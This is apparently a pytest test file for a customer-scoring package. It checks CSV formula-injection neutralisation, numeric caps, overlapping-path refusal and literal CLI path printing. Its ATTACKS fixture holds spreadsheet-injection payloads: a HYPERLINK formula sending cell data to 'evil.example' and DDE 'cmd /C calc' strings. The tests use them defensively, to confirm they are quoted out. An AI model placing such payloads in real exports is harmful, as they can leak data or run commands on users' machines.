"""Safe batch outputs: spreadsheet-safe CSV, the API's numeric caps in batch, overlapping paths refused,
and CLI messages that quote paths literally (issue 10, items 5, 8 and 10).

The Spark engine's path rules and marker file are tested in
`tests/integration/workflows/test_spark.py` (they need a Spark session).
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pydantic
import pytest

from custseg import schema
from custseg.errors import DataError
from custseg.io.csv_safety import spreadsheet_safe
from custseg.io.paths import check_paths
from custseg.registry.client import connect, download_bundle
from custseg.schema import FEATURE_NAMES, ID_COLUMN
from custseg.scoring.scorer import Scorer
from custseg.workflows.batch import score_file
from tests.conftest import TrainedHome

VENV_BIN = Path(sys.executable).parent
HEADER = ",".join([ID_COLUMN, *FEATURE_NAMES])
VALUES = "42,Female,65000,12000.5,40,300.0,55.5,1,30,20"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals sign
]


@pytest.fixture(scope="module")
def scorer(trained_home: TrainedHome, tmp_path_factory: pytest.TempPathFactory) -> Scorer:
    connect(trained_home.settings)
    folder = download_bundle(trained_home.registration.model, tmp_path_factory.mktemp("bundle"))
    return Scorer.from_bundle(folder, compiled=True)


def csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def read_cells(path: Path) -> list[dict[str, str]]:
    """The cells as a spreadsheet would get them (the csv module, no type guessing)."""
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


# -- spreadsheet-safe CSV ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rX", "'\rX"),
        (" =1", "' =1"),  # leading whitespace a spreadsheet may trim before it reads the cell
        ("\u00a0\u3000+1", "'\u00a0\u3000+1"),
        ("\u200b@x", "'\u200b@x"),
        ("＋1", "'＋1"),
        ("＠x", "'＠x"),
        ("CUST_0001", "CUST_0001"),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
        ("12", "12"),
    ],
)
def test_spreadsheet_safe_quotes_only_cells_a_spreadsheet_would_evaluate(cell: str, expected: str) -> None:
    for kind in (pa.string(), pa.large_string()):
        values = pa.array(["CUST_1", cell, None], kind)
        assert spreadsheet_safe(values).to_pylist() == ["CUST_1", expected, None]
        chunked = pa.chunked_array([values.slice(0, 1), values.slice(1)])
        assert spreadsheet_safe(chunked).to_pylist() == ["CUST_1", expected, None]


def test_numbers_are_left_alone() -> None:
    numbers = pa.array([-1.5, 2.0], pa.float32())
    assert spreadsheet_safe(numbers) is numbers


@pytest.mark.parametrize("careful", [False, True], ids=["plain-path", "careful-path"])
def test_formula_cells_are_neutralised_in_the_scored_csv_and_the_rejects(
    tmp_path: Path, scorer: Scorer, careful: bool
) -> None:
    lines = [f"{csv_field(attack)},{VALUES}" for attack in ATTACKS]
    lines.append(f"CUST_OK,{VALUES}")
    # A bad row sends the chunk the careful (pandas) way; its reason quotes the raw value.
    bad = [f"{csv_field('=bad()')},=1+2,Male,1,1,1,1,1,1,1,1"] if careful else []
    source = tmp_path / "in.csv"
    source.write_text("\n".join([HEADER, *lines, *bad]) + "\n", encoding="utf-8")

    summary = score_file(source, tmp_path / "out.csv", scorer, "7")

    ids = [row[ID_COLUMN] for row in read_cells(tmp_path / "out.csv")]
    assert ids == [f"'{attack}" for attack in ATTACKS] + ["CUST_OK"]
    probabilities = pd.read_csv(tmp_path / "out.csv")[[f"proba_{c}" for c in scorer.classes]]
    assert all(pd.api.types.is_numeric_dtype(t) for t in probabilities.dtypes)  # numbers stay numbers
    rejects = read_cells(tmp_path / "out.rejects.csv")
    assert summary.rows_rejected == len(rejects) == (1 if careful else 0)
    if careful:
        assert rejects[0][ID_COLUMN] == "'=bad()"
        assert rejects[0]["row"] == str(len(lines) + 1)
        assert rejects[0]["reason"].startswith("age: '=1+2' is not a number")


def test_the_rejects_file_neutralises_ids_and_reasons_of_malformed_records(
    tmp_path: Path, scorer: Scorer
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(f"{HEADER}\n@x,1,2\n{csv_field('-1+1')},{VALUES}\n", encoding="utf-8")
    score_file(source, tmp_path / "out.parquet", scorer, "7")  # Parquet output, CSV rejects
    rejects = read_cells(tmp_path / "out.rejects.csv")
    assert [r[ID_COLUMN] for r in rejects] == ["'@x"]
    assert rejects[0]["reason"].startswith("malformed record")
    assert pd.read_parquet(tmp_path / "out.parquet")[ID_COLUMN].tolist() == ["-1+1"]  # typed, raw


def test_raw_csv_keeps_the_values_as_read(tmp_path: Path, scorer: Scorer) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "\n".join([HEADER, *[f"{csv_field(a)},{VALUES}" for a in ATTACKS], f"@r,{VALUES[:2]}x{VALUES[2:]}"])
        + "\n",
        encoding="utf-8",
    )
    score_file(source, tmp_path / "out.csv", scorer, "7", raw_csv=True)
    assert [row[ID_COLUMN] for row in read_cells(tmp_path / "out.csv")] == ATTACKS
    assert [row[ID_COLUMN] for row in read_cells(tmp_path / "out.rejects.csv")] == ["@r"]


def test_cli_raw_csv_option(tmp_path: Path, trained_home: TrainedHome) -> None:
    source = tmp_path / "in.csv"
    source.write_text(f"{HEADER}\n{csv_field('=1+1')},{VALUES}\n", encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env["CUSTSEG_HOME"] = str(trained_home.home)
    for extra, expected in (([], "'=1+1"), (["--raw-csv"], "=1+1")):
        done = subprocess.run(
            [str(VENV_BIN / "custseg"), "score", str(source), "--out", str(tmp_path / "o.csv"), *extra],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        assert read_cells(tmp_path / "o.csv")[0][ID_COLUMN] == expected


# -- the API's numeric caps, in batch -----------------------------------------------------------------


OVER_THE_CAP = ["1e300", "inf", "-inf", "Infinity", "3.5e38", "1e16", "1000000000000001"]


def api_accepts(column: str, value: float) -> bool:
    from custseg.serving.models import CustomerRecord

    try:
        CustomerRecord.model_validate({**schema.EXAMPLE_RECORD, column: value})
    except pydantic.ValidationError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_values_the_api_refuses_are_rejected_rows_naming_the_column(
    tmp_path: Path, scorer: Scorer, fmt: str
) -> None:
    rows = []
    for i, value in enumerate(OVER_THE_CAP):
        rows.append({**schema.EXAMPLE_RECORD, ID_COLUMN: f"BIG_{i}", "total_spent": float(value)})
        rows.append({**schema.EXAMPLE_RECORD, ID_COLUMN: f"INC_{i}", "annual_income": float(value)})
    rows.append({**schema.EXAMPLE_RECORD, ID_COLUMN: "AT_CAP", "total_spent": schema.NUMBER_CAP})
    frame = pd.DataFrame(rows)[[ID_COLUMN, *FEATURE_NAMES]]
    source = tmp_path / f"in.{fmt}"
    if fmt == "csv":
        lines = [f"BIG_{i},56,Male,65648,{v},17,467,52,0,235,61" for i, v in enumerate(OVER_THE_CAP)]
        lines += [f"INC_{i},56,Male,{v},49624,17,467,52,0,235,61" for i, v in enumerate(OVER_THE_CAP)]
        lines.append(f"AT_CAP,56,Male,65648,{schema.NUMBER_CAP:.0f},17,467,52,0,235,61")
        source.write_text("\n".join([HEADER, *lines]) + "\n")
    else:
        frame.to_parquet(source)  # float64 columns: the plain (Arrow) path would take them

    summary = score_file(source, tmp_path / "out.csv", scorer, "7")

    assert pd.read_csv(tmp_path / "out.csv", dtype=str)[ID_COLUMN].tolist() == ["AT_CAP"]
    rejects = pd.read_csv(tmp_path / "out.rejects.csv", dtype=str).set_index(ID_COLUMN)["reason"]
    assert summary.rows_rejected == len(rejects) == 2 * len(OVER_THE_CAP)
    for i in range(len(OVER_THE_CAP)):
        assert rejects[f"BIG_{i}"].startswith("total_spent: ") and "is out of domain" in rejects[f"BIG_{i}"]
        assert rejects[f"INC_{i}"].startswith("annual_income: ")
    assert "expected number in [0, 1e+15]" in rejects["BIG_0"]
    # The API refuses exactly these values, and accepts the cap itself: one definition of the cap.
    for value in OVER_THE_CAP:
        assert not api_accepts("total_spent", float(value))
    assert api_accepts("total_spent", schema.NUMBER_CAP)


def test_every_value_under_the_cap_is_finite_in_float32() -> None:
    for feature in schema.FEATURES:
        if feature.is_numeric:
            bounds = np.array([feature.lower_bound, feature.upper_bound], dtype=np.float32)
            assert np.isfinite(bounds).all()


# -- overlapping paths ----------------------------------------------------------------------------


def test_check_paths_refuses_every_overlap_and_accepts_separate_paths(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    source = data / "c.parquet"
    source.write_bytes(b"")
    (tmp_path / "link.parquet").symlink_to(source)
    refused = {
        (str(source), str(source), None): r"output .* is the input",
        (str(source), str(data), None): r"output .* contains the input",
        (str(source), str(tmp_path), None): r"output .* contains the input",
        (str(source), str(tmp_path / "link.parquet"), None): r"output .* is the input",
        (str(source), str(data / ".." / "data" / "c.parquet"), None): r"output .* is the input",
        (str(data), str(data / "sub" / "out.parquet"), None): r"output .* is inside the input",
        (str(source), str(tmp_path / "o.parquet"), str(source)): r"rejects path .* is the input",
        (str(source), str(tmp_path / "o.parquet"), str(data)): r"rejects path .* contains the input",
        (str(source), str(tmp_path / "o"), str(tmp_path / "o")): r"rejects path .* is the output",
        (str(source), str(tmp_path / "o"), str(tmp_path / "o" / "r")): r"rejects path .* inside the output",
    }
    for (given_input, output, rejects), message in refused.items():
        with pytest.raises(DataError, match=message):
            check_paths(given_input, output, rejects)
    check_paths(str(source), str(data / "c.scored.parquet"), str(data / "c.scored.rejects.parquet"))
    check_paths(None, str(data), str(tmp_path / "r"))  # a table name: nothing to compare with


def test_local_engine_refuses_a_folder_holding_the_input_and_rejects_over_the_input(
    tmp_path: Path, scorer: Scorer
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    source = data / "c.csv"
    source.write_text(f"{HEADER}\nC1,{VALUES}\n")
    before = source.read_bytes()
    with pytest.raises(DataError, match="contains the input"):
        score_file(source, data, scorer, "7", fmt="csv")
    with pytest.raises(DataError, match=r"rejects path .* is the input"):
        score_file(source, data / "x.csv", scorer, "7", rejects=data / "link" / ".." / "c.csv")
    (tmp_path / "elsewhere").mkdir()
    with pytest.raises(DataError, match="is a folder"):
        score_file(source, tmp_path / "o.csv", scorer, "7", rejects=tmp_path / "elsewhere")
    assert source.read_bytes() == before and sorted(p.name for p in data.iterdir()) == ["c.csv"]


# -- CLI messages quote user text literally -----------------------------------------------------


def test_cli_prints_paths_with_rich_markup_literally(tmp_path: Path, trained_home: TrainedHome) -> None:
    folder = tmp_path / "in["  # the path 'in[/b].csv' is the file 'b].csv' in the folder 'in['
    folder.mkdir()
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    env.update(CUSTSEG_HOME=str(trained_home.home), COLUMNS="300")

    def score(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(VENV_BIN / "custseg"), "score", *args],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=120,
        )

    (tmp_path / "in[/b].csv").write_text("a,b\n1,2\n")
    failed = score("in[/b].csv", "--out", "out.csv")
    assert failed.returncode == 2, failed.stderr
    assert "Traceback" not in failed.stderr and "MarkupError" not in failed.stderr
    assert "Cannot score 'in[/b].csv': required column(s) missing" in " ".join(failed.stderr.split())

    (tmp_path / "in[/b].csv").write_text(f"{HEADER}\nC1,{VALUES}\nC2,x,Male,1,1,1,1,1,1,1,1\n")
    (tmp_path / "[red]").mkdir()
    done = score("in[/b].csv", "--out", "[red]/o[/b].csv")
    assert done.returncode == 3, done.stderr
    assert "output: [red]/o[/b].csv" in done.stdout
    assert "rejects: [red]/o[/b].rejects.csv (1 rows; exit code 3)" in done.stdout
